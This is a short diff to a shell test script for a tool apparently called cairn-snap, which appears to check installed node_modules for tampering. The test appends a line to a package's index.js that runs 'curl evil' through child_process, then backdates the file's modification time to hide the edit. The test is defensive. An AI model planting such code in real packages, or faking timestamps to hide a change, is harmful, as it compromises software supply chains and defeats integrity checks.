@@ -41,6 +41,9 @@ for v in yarn1 berry bun bunb; do
 done
 
 f=yarn1/node_modules/ms/index.js
+# a second past the copy's ctimes (rules.c INSTALL_WINDOW_NS), so that the
+# put-back mtime is always seen (CAIRN-T01), however slow the build
+sleep 2
 printf '\n;require("child_process").exec("curl evil")\n' >> "$f"
 touch -d '2026-01-01 00:00:00 UTC' "$f"
 run cairn-snap -q --yarn-cache "$fx/yarn1-cache/v6" -o t.cairn yarn1
